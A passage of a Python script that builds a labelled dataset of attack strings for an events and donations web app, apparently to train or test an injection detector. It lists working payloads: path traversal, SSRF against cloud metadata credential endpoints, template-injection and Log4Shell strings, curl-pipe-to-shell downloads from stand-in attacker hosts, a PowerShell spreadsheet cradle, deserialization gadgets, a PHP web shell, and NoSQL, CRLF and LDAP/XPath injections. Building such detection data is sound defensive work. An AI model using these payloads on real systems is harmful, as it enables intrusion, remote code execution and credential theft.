    ("attachment-double-slash-dotdot", "..//..//..//etc//passwd"),
    ("program_pdf_win-filename-then-dotdot", "program.pdf/../../../../../windows/system.ini"),
    ("iis_download-dotdot+iis-u-encoding", "..%u002f..%u002f..%u002fwindows%u002fwin.ini"),
    ("attachment-fullwidth-slash+url-encoded", "..%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("plain-dotdot-shadow", "../../../../../../etc/shadow"),
    ("plain-absolute-win-ini", "C:\\Windows\\win.ini"),
    ("session_recording-dotdot-mysql-history", "recordings/2025/../../../../root/.mysql_history"),
]

TRAV_PREFIX = ["uploads/tributes/", "tickets/2025/", "", "assets/badges/", "exports/"]
TRAV_TARGETS = ["etc/passwd", "var/www/app/config/database.yml", "root/.ssh/authorized_keys",
                "proc/self/environ", "home/app/.pgpass"]


def tpl_traversal(rng):
    return ("attachment-dotdot-sensitive-file",
            rng.choice(TRAV_PREFIX) + "../" * rng.randint(4, 9) + rng.choice(TRAV_TARGETS))


# ---------------------------------------------------------------------------
# ssrf: values fetched by the server (webhooks, calendar feeds, logo/photo URLs,
# livestream ingest, HTML-to-PDF ticket renderer)
# ---------------------------------------------------------------------------
SSRF = [
    ("webhook_url-aws-imds-credentials", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("calendar_feed_url-aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
    ("speaker_photo_url-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook_url-azure-imds", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("logo_url-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("webhook_url-loopback-redis", "http://127.0.0.1:6379/"),
    ("webhook_url-gopher-redis-cron", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example/c%7Csh%5Cn%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("webhook_url-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("calendar_feed_url-elasticsearch-indices", "http://localhost:9200/_cat/indices?v"),
    ("webhook_url-ipv6-loopback-admin", "http://[::1]:8080/admin/"),
    ("webhook_url-zero-address-internal", "http://0.0.0.0:5000/internal/refunds"),
    ("logo_url-loopback+alt-ip-decimal", "http://2130706433/admin"),
    ("logo_url-loopback+alt-ip-hex", "http://0x7f000001/server-status"),
    ("logo_url-loopback+alt-ip-octal", "http://0177.0.0.1/admin"),
    ("logo_url-loopback+alt-ip-short", "http://127.1:8000/admin/users"),
    ("webhook_url-imds+ipv4-mapped-ipv6", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("calendar_feed_url-dns-pointing-at-metadata", "http://169.254.169.254.attacker.example/latest/meta-data/"),
    ("webhook_url-userinfo-confusion", "http://attacker.example@127.0.0.1:8000/admin"),
    ("webhook_url-fragment-parser-confusion", "http://127.0.0.1:8000#@attacker.example/"),
    ("speaker_photo_url-open-redirect-chain", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("attachment_url-file-scheme-passwd", "file:///etc/passwd"),
    ("attachment_url-file-scheme-environ", "file:///proc/self/environ"),
    ("logo_url-jar-scheme", "jar:http://attacker.example/evil.jar!/logo.png"),
    ("webhook_url-k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("webhook_url-consul-kv", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("webhook_url-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("calendar_feed_url-spring-actuator-env", "http://10.0.0.5:8080/actuator/env"),
    ("logo_url-router-admin", "http://192.168.1.1/cgi-bin/luci"),
    ("crm_sync_url-internal-export", "http://internal-crm.local/api/donors/export?format=csv"),
    ("calendar_feed_url-webcal-loopback", "webcal://127.0.0.1:8080/admin/calendar.ics"),
    ("logo_url-imds-host+url-encoded", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("logo_url-loopback+unicode-enclosed", "http://①②⑦.⓪.⓪.①/admin"),
    ("webhook_url-backslash-parser-confusion", "http://127.0.0.1:80\\@attacker.example/"),
    ("webhook_url-zero-shorthand", "http://0/admin"),
    ("logo_url-ipv6-mapped-loopback-long", "http://[0:0:0:0:0:ffff:127.0.0.1]/admin"),
    ("ticket_pdf_html-iframe-metadata", "<iframe src=\"http://169.254.169.254/latest/meta-data/\" width=\"800\" height=\"600\"></iframe>"),
    ("ticket_pdf_html-attachment-link-file", "<link rel=\"attachment\" href=\"file:///etc/passwd\">"),
    ("badge_css-import-internal", "@import url('http://127.0.0.1:8500/v1/agent/self');"),
    ("webhook_url-couchdb-all-dbs", "http://127.0.0.1:5984/_all_dbs"),
    ("webhook_url-rabbitmq-default-creds", "http://guest:guest@127.0.0.1:15672/api/users"),
    ("webhook_url-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20events%0D%0AMAIL%20FROM%3A%3Cboxoffice%40events.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.net%3E%0D%0ADATA%0D%0ASubject%3A%20Refund%0D%0A%0D%0AClick%20https%3A%2F%2Fattacker.example%0D%0A.%0D%0AQUIT%0D%0A"),
    ("webhook_url-aws-imds-ipv6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("webhook_url-ecs-task-metadata", "http://169.254.170.2/v2/metadata"),
    ("logo_url-smb-unc-ntlm-leak", "\\\\198.51.100.5\\share\\logo.png"),
    ("logo_url-imds+alt-ip-octal", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("logo_url-imds+alt-ip-decimal", "http://2852039166/latest/meta-data/"),
    ("logo_url-imds+alt-ip-hex", "http://0xa9fea9fe/latest/meta-data/"),
    ("webhook_url-loopback+case-mixing", "HTTP://LocalHost:8000/admin/"),
    ("calendar_feed_url-dns-rebinding", "http://rebind.attacker.example:8080/admin/export"),
    ("livestream_url-rtmp-loopback", "rtmp://127.0.0.1:1935/live/admin"),
    ("plain-imds-root", "http://169.254.169.254/"),
    ("plain-localhost-admin", "http://localhost/admin"),
    ("plain-loopback-ssh-port", "http://127.0.0.1:22/"),
    ("plain-file-windows", "file:///c:/windows/win.ini"),
    ("plain-gcp-metadata-short", "http://metadata/computeMetadata/v1/"),
]

# ---------------------------------------------------------------------------
# code: SSTI in merge fields/templates, expression languages, Log4Shell lookups,
# prototype pollution, CSV formulas, XXE/XInclude/XSLT, deserialization, eval sinks
# ---------------------------------------------------------------------------
BILLION = ("<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY a \"aaaaaaaaaa\">"
           "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
           "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
           "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]>"
           "<t>&g;</t>")
XSLT = ("<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" "
        "xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\">"
        "<xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'id')\"/>"
        "</xsl:template></xsl:stylesheet>")
JSONNET_TYPE = ("{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\","
                "\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\","
                "\"$values\":[\"cmd\",\"/c curl -s http://203.0.113.8/n | cmd\"]},"
                "\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}")

CODE = [
    ("merge_field-jinja2-cycler-globals-popen", "Hi {{ cycler.__init__.__globals__.os.popen('id').read() }},"),
    ("merge_field-jinja2-template-context-popen", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /app/.env').read() }}"),
    ("merge_field-jinja2-lipsum-globals", "{{ lipsum.__globals__['os'].popen('curl -s https://attacker.example/j | sh').read() }}"),
    ("merge_field-jinja2-request-builtins-import", "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}"),
    ("merge_field-jinja2-subclasses-enumeration", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("merge_field-jinja2-config-leak", "Dear {{ config.items() }},"),
    ("merge_field-jinja2-attr-filter+hex-escapes", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("merge_field-jinja2-namespace-popen", "Dear {{ first_name }}, thank you! {{ namespace.__init__.__globals__.os.popen('id').read() }}"),
    ("merge_field-jinja2-lipsum+unicode-escapes", "{{ lipsum['\\u005f\\u005fglobals\\u005f\\u005f']['os'].popen('id').read() }}"),
    ("invite_template-twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("invite_template-twig-undefined-filter-callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('cat /etc/passwd') }}"),
    ("receipt_template-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("receipt_template-freemarker-objectconstructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\", [\"sh\", \"-c\", \"curl -s attacker.example/f|sh\"]).start()}"),
    ("email_template-velocity-reflection-exec", "#set($s='')#set($rt=$s.getClass().forName('java.lang.Runtime').getRuntime())$rt.exec('id')"),
    ("badge_template-erb-backticks", "<%= `id` %>"),
    ("badge_template-erb-file-read", "<%= File.read('/etc/passwd') %>"),
    ("merge_field-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("merge_field-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("merge_field-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("invite_template-smarty-if-system", "{if system('id')}{/if}"),
    ("newsletter_template-mako-python-block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("newsletter_template-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("newsletter_template-django-debug-leak", "{% debug %}"),
    ("event_page_template-thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("badge_name-spel-runtime-exec", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/spel')}"),
    ("donor_name-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("promo_code-ognl-static-method", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("badge_name-log4shell-jndi-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("checkin_device-log4shell+lookup-nesting", "${${lower:j}ndi:${lower:l}dap://198.51.100.3/x}"),
    ("user_agent-log4shell+default-value-split", "${${::-j}${::-n}${::-d}${::-i}:rmi://attacker.example/o}"),
    ("volunteer_note-log4shell-dns-env", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("session_title-log4shell-sys-version", "${jndi:ldap://${sys:java.version}.attacker.example/v}"),
    ("search-log4shell+url-encoded", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fz%7D"),
    ("checkin_device-log4shell-ldaps", "kiosk-3 ${jndi:ldaps://attacker.example/k3}"),
    ("registration_json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("registration_json-constructor-prototype", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("query_string-proto-pollution-brackets", "__proto__[isAdmin]=true"),
    ("query_string-proto-pollution-ejs-gadget", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("settings_json-proto-pollution-node-options", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("filter_qs-proto-pollution-nested", "filters[__proto__][admin]=1"),
    ("donor_name_csv-formula-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2, \"Click for receipt\")"),
    ("donor_name_csv-dde-powershell", "=cmd|'/C powershell -nop -c \"iwr http://203.0.113.8/p.ps1 | iex\"'!A1"),
    ("attendee_name_csv-importxml-exfil", "+IMPORTXML(CONCAT(\"https://attacker.example/x?\", A1, B1), \"//a\")"),
    ("tribute_csv-at-prefix-dde", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("volunteer_name_csv-minus-prefix-dde", "-2+3+cmd|' /C notepad'!'A1'"),
    ("donation_note_csv-webservice-exfil", "=WEBSERVICE(\"https://attacker.example/l?\"&ENCODEURL(C2))"),
    ("xml_import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><registration><name>&x;</name></registration>"),
    ("xml_import-xxe-oob-parameter-entity", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><r>&send;</r>"),
    ("sponsor_logo_svg-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY k SYSTEM \"file:///app/config/secrets.yml\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&k;</text></svg>"),
    ("donation_xml-xxe-php-filter", "<!DOCTYPE d [<!ENTITY e SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/config.php\">]><donation><note>&e;</note></donation>"),
    ("xml_import-entity-expansion-dos", BILLION),
    ("ticket_xml-xinclude-file", "<tickets xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></tickets>"),
    ("report_xslt-xalan-runtime-exec", XSLT),
    ("saved_cart_cookie-pickle-reduce+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHBzOi8vYXR0YWNrZXIuZXhhbXBsZS9wIHwgc2gnCnRSLg=="),
    ("event_import_yaml-python-object-apply", "!!python/object/apply:os.system ['curl -s https://attacker.example/y | sh']"),
    ("event_import_yaml-python-object-new", "!!python/object/new:subprocess.check_output [['id']]"),
    ("session_data-php-object-injection", "O:12:\"PdfGenerator\":2:{s:7:\"tmpFile\";s:33:\"/var/www/html/uploads/badge_7.php\";s:7:\"content\";s:28:\"<?php system($_GET[\"c\"]); ?>\";}"),
    ("crm_import_json-jsonnet-type-gadget", JSONNET_TYPE),
    ("api_json-jackson-polymorphic-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\":\"ldap://attacker.example:1389/obj\", \"autoCommit\":true}]"),
    ("api_json-fastjson-autotype-jndi", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.3:1099/x\",\"autoCommit\":true}"),
    ("profile_cookie-node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("donation_calc_expression-python-eval-import", "__import__('os').system('id')"),
    ("custom_field_formula-node-eval-require", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("price_formula-php-eval-string-break", "0\";system('id');//"),
    ("greeting_template-ruby-interpolation", "#{`id`}"),
    ("ticket_template-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("merge_field-spel-selection-exec-read", "*{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(), T(java.nio.charset.Charset).forName('UTF-8'))}"),
    ("event_description-ssi-exec", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("tribute_text-jinja2-in-prose", "Forever loved, {{ joiner.__init__.__globals__.os.popen('curl -s 203.0.113.7/t|sh').read() }} — the Ramírez family"),
    ("plain-jinja2-config-secret", "{{config.SECRET_KEY}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
    ("plain-csv-dde", "=1+cmd|' /C calc'!A0"),
    ("plain-xxe", "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"),
    ("plain-erb-system", "<%= system('id') %>"),
]

CODE_GREET = ["Hi", "Dear", "Hola", "Bonjour", "Thanks"]
CODE_ACCESSORS = ["cycler.__init__.__globals__.os", "joiner.__init__.__globals__.os",
                  "namespace.__init__.__globals__.os", "lipsum.__globals__.os"]
CODE_CMDS = ["cat /etc/passwd", "env", "curl -s 198.51.100.40/m | sh", "ls -la /app"]


def tpl_code(rng):
    return ("merge_field-jinja2-globals-popen",
            f"{rng.choice(CODE_GREET)} {{{{ {rng.choice(CODE_ACCESSORS)}.popen('{rng.choice(CODE_CMDS)}').read() }}}},")


# ---------------------------------------------------------------------------
# nosqli: values merged into MongoDB/CouchDB/Elasticsearch queries
# ---------------------------------------------------------------------------
NOSQLI = [
    ("promo_code_json-ne-null", "{\"$ne\": null}"),
    ("promo_code_json-gt-empty", "{\"$gt\": \"\"}"),
    ("staff_login_json-password-ne", "{\"email\": \"board@riverside.example\", \"password\": {\"$ne\": \"x\"}}"),
    ("promo_code_json-regex-enumeration", "{\"$regex\": \"^GALA\"}"),
    ("event_filter_json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("donor_where_js-string-breakout", "'; return this.amount > 1000; var x='"),
    ("staff_login_qs-ne-operator", "password[$ne]=nothing"),
    ("promo_code_qs-regex-options", "code[$regex]=.*&code[$options]=si"),
    ("staff_login_qs-in-array", "username[$in][]=admin&username[$in][]=boxoffice"),
    ("attendee_filter_json-or-exists", "{\"$or\": [{\"role\": \"admin\"}, {\"_id\": {\"$exists\": true}}]}"),
    ("ticket_filter_json-nin-empty", "{\"tier\": {\"$nin\": []}}"),
    ("report_pipeline-lookup-staff", "[{\"$lookup\": {\"from\": \"staff_users\", \"pipeline\": [], \"as\": \"s\"}}]"),
    ("password_reset_json-regex-token-probe", "{\"email\": {\"$regex\": \"^a\"}, \"reset_token\": {\"$regex\": \"^7f\"}}"),
    ("event_filter_json-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){ sleep(4000); return true }\", \"args\": [], \"lang\": \"js\"}}}"),
    ("donor_filter_qs-exists", "card_token[$exists]=true"),
    ("staff_filter_json-where-role", "{\"$where\": \"this.password_hash.length > 0 && this.role == 'admin'\"}"),
    ("volunteer_login_where-js-tautology", "admin' || '1'=='1"),
    ("staff_login_qs-ne+url-encoded", "password%5B%24ne%5D=1"),
    ("promo_code_json-regex-dotall", "{\"$regex\": \".*\", \"$options\": \"s\"}"),
    ("couch_find-mango-selector-all", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"limit\": 100000}"),
    ("donor_search_es-query-string-exists", "name:* OR _exists_:card_token"),
    ("attendee_filter_qs-where", "filter[$where]=this.is_vip||true"),
    ("event_filter_json-where-busy-loop", "{\"$where\": \"while(true){}\"}"),
    ("plain-ne-json", "{\"$ne\": 1}"),
    ("plain-ne-qs", "[$ne]=1"),
    ("plain-gt-qs", "username[$gt]=&password[$gt]="),
]

# ---------------------------------------------------------------------------
# crlf: values written into response headers, mail headers/SMTP, log lines, CSV rows
# ---------------------------------------------------------------------------
CRLF = [
    ("redirect_path-set-cookie-fixation", "/tickets/confirm\r\nSet-Cookie: session=attacker-fixed-0000; Path=/"),
    ("return_url-set-cookie+url-encoded", "/checkout%0d%0aSet-Cookie:%20promo=FREE100;%20Path=/"),
    ("return_url-location+double-url", "/thanks%250d%250aLocation:%20https://attacker.example/"),
    ("lang_cookie-response-splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 46\r\n\r\n<script>location='//attacker.example'</script>"),
    ("download_filename-content-disposition-breakout", "receipt.pdf\"\r\nContent-Type: text/html\r\n\r\n<h1>Refund approved — re-enter your card at attacker.example</h1>"),
    ("contact_subject-bcc-injection", "Volunteer question\r\nBcc: list@attacker.example"),
    ("reply_to-cc-injection-lf", "donor@example.org\nCc: everyone@attacker.example\nX-Priority: 1"),
    ("from_name-bcc-multiple", "Ana <ana@example.org>\r\nBcc: a1@attacker.example, a2@attacker.example"),
    ("message_body-smtp-smuggling", "Thanks!\r\n\r\n.\r\nMAIL FROM:<ceo@riverside.example>\r\nRCPT TO:<victim@example.net>\r\nDATA\r\nSubject: Urgent wire\r\n\r\nPlease wire $9,800 today.\r\n."),
    ("checkin_note-forged-log-line", "checked in OK\n2025-04-12T19:01:44Z INFO ticket=55120-03 status=refund_approved by=admin amount=450.00"),
    ("checkin_note-forged-audit-line", "guest arrived\r\n[2025-04-12 19:30:00] AUDIT user=finance action=export_donors result=success"),
    ("shift_note-forged-log+url-encoded", "late 10 min%E2%80%A8[INFO] admin login from 10.0.0.2 ok"),
    ("redirect_path-set-cookie+utf8-truncation", "/e/4471%E5%98%8A%E5%98%8DSet-Cookie:%20role=admin"),
    ("upstream_header-xff-injection", "kiosk-2\r\nX-Forwarded-For: 127.0.0.1"),
    ("webhook_header-host-override", "webhook-test\r\nHost: internal-admin.local"),
    ("upstream_header-request-smuggling", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("shift_report-forged-report-block", "Smith\n\n=== END OF SHIFT REPORT ===\nAll cash reconciled: $0 variance. Signed: Treasurer"),
    ("badge_reprint_note-forged-syslog", "badge reprint\n<13>Apr 12 19:02:11 boxoffice sudo: volunteer : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash"),
    ("lang_cookie-set-cookie-role", "en-GB; Path=/\r\nSet-Cookie: role=admin; Path=/"),
    ("attendee_email-bcc+url-encoded", "attendee@example.org%0ABcc:all@attacker.example"),
    ("checkin_log_json-field-injection", "Jamie\",\"role\":\"admin\",\"refund_ok\":true,\"x\":\""),
    ("checkin_note-ansi-escape-log", "\u001b[2J\u001b[1;1HAll scans OK — no incidents"),
    ("return_url-refresh-header", "https://events.example.org/\r\nRefresh: 0; url=https://attacker.example/"),
    ("lang_param-body-injection", "fr\r\n\r\n<html><body>Your ticket has been cancelled. Re-enter your card at https://attacker.example</body></html>"),
    ("contact_subject-content-type-body-switch", "Question about seating\nContent-Type: text/html\n\n<a href=https://attacker.example>Claim your refund</a>"),
    ("payment_note-cr-only-forged-line", "ok\rINFO payment captured order=A-100999 amount=0.00"),
    ("shift_swap_note-forged-access-log", "shift swap\n127.0.0.1 - admin [12/Apr/2025:19:02:11 +0000] \"POST /admin/refunds HTTP/1.1\" 200 512"),
    ("checkin_export-csv-row-injection", "Lee\nFAKE-9999,Mallory Free,VIP,checked_in"),
    ("plain-crlf-set-cookie+url-encoded", "%0d%0aSet-Cookie: crlf=injected"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-lf-log-forgery", "\nERROR login failed for user admin"),
]

# ---------------------------------------------------------------------------
# ldap-xpath: values placed in LDAP filters (staff directory, volunteer login)
# and XPath expressions over seating/ticket/donor XML
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("staff_directory-ldap-or-wildcard", "*)(uid=*))(|(uid=*"),
    ("staff_directory-ldap-objectclass", "*)(|(objectClass=*)"),
    ("volunteer_login-ldap-absolute-true", "admin)(&)"),
    ("staff_directory-ldap-member-of-admins", "*)(memberOf=cn=Administrators,ou=Groups,dc=riverside,dc=example"),
    ("staff_directory-ldap-mail-enumeration", "j*)(|(mail=*@riverside.example)(cn=*"),
    ("staff_directory-ldap-blind-attribute", "volunteer)(description=a*"),
    ("staff_directory-ldap-or-wildcard+url-encoded", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("volunteer_login-ldap-null-truncation", "admin))%00"),
    ("donor_directory-ldap-title-probe", "Dana K*)(title=*Director*"),
    ("staff_directory-ldap-password-hash-blind", "admin)(userPassword={SSHA}a*"),
    ("seating_xml-xpath-tautology", "' or '1'='1"),
    ("seating_xml-xpath-name-probe", "x' or name()='seat' or 'x'='y"),
    ("ticket_lookup_xpath-or-tautology", "' or 1=1 or ''='"),
    ("staff_xml-xpath-union-passwords", "'] | //staff/password | //x['"),
    ("ticket_xml-xpath-count-probe", "' or count(/tickets/ticket)>0 or 'a'='b"),
    ("staff_xml-xpath-blind-substring", "' and substring(//user[1]/password,1,1)='a' and ''='"),
    ("ticket_xml-xpath-root-name-length", "' or string-length(name(/*[1]))=7 or ''='"),
    ("event_xml-xpath-numeric-tautology", "1 or 1=1"),
    ("event_xml-xpath-select-all", "')] | //* | //*[('"),
    ("event_xml-xpath2-doc-oob", "' or doc('http://attacker.example/x.xml')/a or '"),
    ("donor_xml-xpath-card-probe", "Hernández' or contains(//donor/card_number,'4') or 'a'='b"),
    ("plain-ldap-wildcard-close", "*)(cn=*"),
    ("plain-xpath-tautology", "' or ''='"),
]

# (category, literals, template function or None, number of templated values)
CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 3),
    ("xss", XSS, tpl_xss, 3),
    ("cmdi", CMDI, tpl_cmdi, 4),
    ("traversal", TRAVERSAL, tpl_traversal, 2),
    ("ssrf", SSRF, None, 0),
    ("code", CODE, tpl_code, 3),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    here = Path(__file__)
    benign_values = {}
    benign_path = here.with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_values[json.loads(line)["value"]] = True
    else:
        print("note: benign.jsonl not found; cross-file overlap not checked")

    rows = []
    seen = {}
    stats = []
    for category, literals, template, n_tpl in CATEGORIES:
        n_before = len(rows)
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {category}: {v!r}")
            seen[v] = True
            rows.append((category, cls, v))
        n_lit = len(rows) - n_before
        made = 0
        tries = 0
        while made < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{category}: template exhausted")
            cls, v = template(rng)
            if v in seen:
                continue
            seen[v] = True
            rows.append((category, cls, v))
            made += 1
        stats.append((category, n_lit + made, n_lit))

    out = []
    for i, (category, cls, v) in enumerate(rows, 1):
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value: {v!r}")
        if v in benign_values:
            raise SystemExit(f"value also in benign.jsonl: {v!r}")
        out.append({"id": f"{ID_PREFIX}-{i:05d}", "category": category, "class": cls,
                    "label": "attack", "value": v})

    path = here.with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    total_lit = 0
    for category, n, n_lit in stats:
        total_lit += n_lit
        print(f"{category:12s} {n:4d}  literals {n_lit:3d}")
    n_plain = sum(1 for o in out if o["class"].startswith("plain-"))
    n_enc = sum(1 for o in out if "+" in o["class"])
    print(f"{'total':12s} {len(out):4d}  literals {total_lit:3d} ({100 * total_lit / len(out):.0f}%)"
          f"  plain {n_plain}  encoded {n_enc}")
    print(f"wrote {path}")


if __name__ == "__main__":
    main()
